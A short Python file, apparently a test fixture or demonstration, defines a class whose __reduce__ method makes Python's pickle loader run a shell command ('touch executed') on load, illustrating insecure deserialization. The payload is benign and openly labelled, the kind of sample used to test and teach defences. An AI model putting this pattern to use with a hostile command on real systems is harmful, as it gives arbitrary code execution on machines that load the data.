"""A pickle that runs code when it is loaded carelessly."""
import os


class Malicious:

    def __reduce__(self):
        return os.system, ('touch executed', )
